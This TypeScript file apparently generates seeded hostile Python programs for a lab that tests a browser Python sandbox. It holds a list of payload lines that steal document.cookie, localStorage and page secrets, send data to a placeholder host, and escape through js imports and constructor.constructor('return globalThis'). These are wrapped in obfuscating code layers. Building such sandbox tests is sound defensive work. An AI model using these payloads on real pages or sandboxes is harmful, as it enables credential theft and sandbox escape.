/**
 * Hostile Python out of a grammar: acts of several families, each in what hides it, one after the other in a
 * program that goes on whatever becomes of them. The same seed gives the same programs.
 */
import type { SeededRandom } from "@/base/seeded-random";
import { LURE } from "@/lab/attack/programs/forgeries";
import { hideWord } from "@/lab/attack/programs/grammar/hostile-words";
import { REACHING_ACTS, type WriteAct } from "@/lab/attack/programs/grammar/reaching-acts";
import { TAKING_ACTS } from "@/lab/attack/programs/grammar/taking-acts";
import { drawWay, HELP, indent } from "@/lab/attack/programs/python-ways";

export interface HostileProgram {
  readonly families: readonly string[];
  /** Whether all it does is to reach for what is outside: such a program ends where nothing is sealed, too. */
  readonly isReaching: boolean;
  /** The text, for requests that lead to `hit` and a page at `own`. */
  readonly write: (hit: string, own: string) => string;
}

type Wrap = (code: string, random: SeededRandom) => string;

const WRAPS: readonly Wrap[] = [
  (code) => code,
  (code) => `def hidden():\n${indent(code)}\n    return got\ngot = None\ngot = hidden()`,
  (code) => `class Hidden:\n${indent(code)}\ngot = getattr(Hidden, "got", None)`,
  (code) => `try:\n    raise KeyError\nexcept KeyError:\n${indent(code)}`,
  (code) => `try:\n    pass\nfinally:\n${indent(code)}`,
  (code, random) =>
    `for turn in range(${random.integer(2, 60)}):\n    pass\nelse:\n${indent(code)}`,
  (code) => `def hidden():\n${indent(code)}\n    yield got\ngot = None\ngot = next(hidden())`,
  (code) =>
    `async def hidden():\n${indent(code)}\n    return got\ntry:\n    hidden().send(None)\nexcept StopIteration as end:\n    got = end.value`,
  (code) => `import contextlib\nwith contextlib.suppress(ValueError):\n${indent(code)}`,
  (code) => `scope = dict(globals())\nexec(${JSON.stringify(code)}, scope)\ngot = scope.get("got")`,
  (code) => `match [1, 2]:\n    case [1, *rest] if rest:\n${indent(indent(code))}`,
  (code) => `if (lambda: True)():\n${indent(code)}`,
  (code) =>
    `def deep(n):\n    if n:\n        return deep(n - 1)\n${indent(code)}\n    return got\ngot = None\ngot = deep(30)`,
];

/** A way that is always tried, with any act, hidden as the others are. */
function takeWay(random: SeededRandom): string {
  return `${HELP}def attempt():\n${indent(drawWay(random).body)}\ngot = attempt()`;
}

const REACHING: Readonly<Record<string, WriteAct>> = { ...REACHING_ACTS, ways: takeWay };

/** One program. */
export function drawHostileProgram(random: SeededRandom): HostileProgram {
  const isReaching = random.next() < 0.6;
  const table = isReaching ? REACHING : { ...REACHING, ...TAKING_ACTS };
  const count = random.integer(1, 4);
  const drawn = Array.from({ length: count }, () => random.pick(Object.entries(table)));
  if (!isReaching) {
    drawn.push(random.pick(Object.entries(TAKING_ACTS)));
  }
  const acts = drawn.map(([, act]) => wrap(act(random), random));
  const prelude = writePrelude(random);
  return {
    families: drawn.map(([family]) => family),
    isReaching,
    write: (hit, own) =>
      [
        `HIT, OWN, LURE = ${[hit, own, LURE].map((each) => JSON.stringify(each)).join(", ")}`,
        prelude,
        ...acts,
      ].join("\n"),
  };
}

/** An act that fails does not keep the next from its turn; the last word of the last one may be an exception. */
function wrap(code: string, random: SeededRandom): string {
  let wrapped = code;
  for (let layers = random.integer(0, 2); layers > 0; layers -= 1) {
    wrapped = random.pick(WRAPS)(wrapped, random);
  }
  const caught = random.pick(["Exception", "BaseException"]);
  return random.next() < 0.85
    ? `got = None\ntry:\n${indent(wrapped)}\n    loot(got)\nexcept ${caught} as error:\n    print("NOT", type(error).__name__)`
    : `got = None\n${wrapped}\nloot(got)`;
}

/** What is done with whatever somebody got hold of. */
const USES: readonly string[] = [
  "it.fetch(HIT)",
  "it.fetch(OWN + '/secret.txt')",
  "it.eval(f'fetch({HIT!r})')",
  "it.run_js(f'fetch({HIT!r})')",
  "it.open_url(HIT)",
  "it.pyfetch(HIT)",
  "it.modules['js'].fetch(HIT)",
  "print('GOT', it.pageSecret)",
  "print('GOT', it.pageTask)",
  "print('GOT', it.document.querySelector('#secret').textContent)",
  "print('GOT', it.localStorage.getItem('secret'))",
  "print('GOT', it.document.cookie)",
  "it.XMLHttpRequest.new().open('GET', HIT)",
  "it.WebSocket.new(HIT.replace('http', 'ws'))",
  "it.EventSource.new(HIT)",
  "it.postMessage(LURE)",
  "it['js'].fetch(HIT)",
  "it['__import__']('js').fetch(HIT)",
  "it['__builtins__']['__import__']('js').fetch(HIT)",
  "it.constructor.constructor('return globalThis')().fetch(HIT)",
];

function writePrelude(random: SeededRandom): string {
  const uses = random.shuffle(USES).slice(0, random.integer(8, USES.length));
  const reads = random.shuffle(["fetch", "pageSecret", "pageTask"]);
  const read = reads
    .map(
      (name) =>
        `    try:\n        print("GOT", getattr(it, ${hideWord(name, random)}))\n    except BaseException:\n        pass`,
    )
    .join("\n");
  const use = uses
    .map((each) => `    try:\n        ${each}\n    except BaseException:\n        pass`)
    .join("\n");
  return `def loot(it):\n    try:\n        print("GOT", str(it)[:2000])\n    except BaseException:\n        pass\n${read}\n${use}`;
}
